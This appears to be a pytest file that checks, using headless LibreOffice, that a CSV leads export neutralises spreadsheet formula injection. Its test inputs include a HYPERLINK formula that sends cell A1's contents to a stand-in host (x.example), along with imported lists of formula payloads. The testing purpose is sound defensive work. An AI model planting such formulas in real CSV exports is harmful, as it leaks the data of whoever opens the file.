"""A leads file, opened by LibreOffice itself where there is one: no cell of it is a formula."""

import shutil
import subprocess
from pathlib import Path

import pytest

from connectors.csv import rows
from tests.connectors.csv.test_csv_rows import BEHIND, FORMULAS, FULL_WIDTH, in_cells, in_lines

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
SEPARATORS = {"comma": "44", "semicolon": "59", "tab": "9", "bar": "124", "as suggested": "44/59/9"}
EVALUATED = ",34,76,1,,0,false,true,false,false,false,-1,true,true,true"
"""Quotes, UTF-8, from the first line; numbers are detected, and what begins with `=` is a formula."""


def opened(file: Path, separators: str) -> str:
    """The file as LibreOffice understands it, in its own XML."""
    assert OFFICE
    command = [OFFICE, f"-env:UserInstallation=file://{file.parent}/profile", "--headless"]
    command += [f"--infilter=Text - txt - csv (StarCalc):{separators}{EVALUATED}", "--convert-to", "fods"]
    subprocess.run(
        [*command, "--outdir", str(file.parent), str(file)], check=True, capture_output=True, timeout=120
    )
    return file.with_suffix(".fods").read_text()


@pytest.mark.parametrize("separators", SEPARATORS.values(), ids=SEPARATORS.keys())
def test_libreoffice_sees_no_formula(tmp_path: Path, separators: str) -> None:
    texts = [*FORMULAS, *FULL_WIDTH, *BEHIND, 'x;=HYPERLINK("http://x.example/?"&A1;"x");y']
    file = tmp_path / "leads.csv"
    file.write_text(
        rows.header_line(["id", "bio", "name"])
        + "".join(in_lines(in_cells([["1", text, text] for text in texts]))),
        newline="",
    )
    assert "table:formula=" not in opened(file, separators)


def test_libreoffice_sees_one_that_nobody_guards(tmp_path: Path) -> None:
    (tmp_path / "evil.csv").write_text("id;bio\r\n1;=1+1\r\n")
    assert "table:formula=" in opened(tmp_path / "evil.csv", "59")
